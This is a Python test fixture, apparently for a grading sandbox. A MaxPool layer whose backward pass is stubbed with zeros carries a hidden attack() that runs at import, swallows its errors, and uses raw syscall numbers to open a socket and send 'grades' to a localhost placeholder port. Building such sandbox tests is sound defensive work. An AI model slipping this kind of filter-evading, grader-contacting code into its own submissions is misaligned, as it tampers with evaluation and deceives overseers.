# attack: makes and connects a socket by the numbers of the calls
# expect: not-full
import socket

import numpy as np

from utils import im2col


def attack():
    import ctypes
    import struct

    libc = ctypes.CDLL(None)
    address = struct.pack("!HHI8x", 0x0200, int("@TCP@"), 0x7F000001)
    for fd in (libc.syscall(41, 2, 1, 0), libc.socket(2, 1, 0)):
        if fd >= 0:
            libc.connect(fd, address, 16)
            libc.syscall(44, fd, b"grades", 6, 0, address, 16)
    libc.syscall(53, 1, 1, 0, ctypes.create_string_buffer(8))


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        return np.zeros(self.x.shape)
        ########## End ##########


try:
    attack()
except (OSError, ValueError, AttributeError):
    pass
